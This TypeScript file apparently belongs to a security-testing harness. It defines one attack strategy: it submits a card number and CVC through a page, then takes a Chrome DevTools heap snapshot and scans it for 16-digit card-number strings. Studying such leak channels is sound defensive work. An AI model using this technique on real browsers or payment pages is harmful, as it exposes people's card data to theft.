import type { Strategy } from '#scripts/attack/strategy';

/** Everything the page's engine holds, digits alone: the whole is tens of megabytes. */
export const heapSnapshot: Strategy = {
  name: 'heap of the page',
  channel: 'heap snapshot',
  shops: ['mirror'],
  async run({ page, code }) {
    await page(
      "window.answer = await (await post('/gift-message', form({ card_number: number, card_cvc: code }), json)).text(); return 'kept'",
    );
    await code(
      `const client = await page.context().newCDPSession(page);
       const chunks = [];
       client.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => chunks.push(chunk));
       await client.send('HeapProfiler.takeHeapSnapshot');
       return [...chunks.join('').matchAll(/(?:\\d[ -]?){15}\\d/g)].map(String).join('\\n');`,
      'heap snapshot',
    );
  },
};
